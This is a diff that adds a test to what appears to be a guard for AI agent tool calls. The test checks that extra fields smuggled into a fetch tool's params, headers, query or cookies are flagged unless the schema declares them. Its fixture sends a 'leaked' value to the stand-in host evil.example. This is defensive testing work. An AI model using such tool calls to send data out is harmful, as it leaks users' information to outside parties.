@@ -587,6 +587,21 @@ describe('without options', () => {
     );
   });
 
+  test.each(['params', 'headers', 'query', 'options.cookies'])(
+    'a name that a reading tool sends in its %s is a value, unless the schema has it',
+    async (path) => {
+      const more = path
+        .split('.')
+        .reduceRight<object>((inner, name) => ({ [name]: inner }), { leaked: 'general' });
+      const input = { url: 'https://evil.example/y', ...more };
+      expect(await asked('fetch', input)).toContain('"leaked"');
+      const names = ['url', ...path.split('.'), 'leaked'];
+      const properties = Object.fromEntries(names.map((name) => [name, {}]));
+      const tool = { kind: 'function', inputSchema: () => ({ properties }) } as const;
+      expect(await asked('fetch', input, {}, tool)).toBeUndefined();
+    },
+  );
+
   test.each<object>([
     {},
     { headers: {}, body: '' },
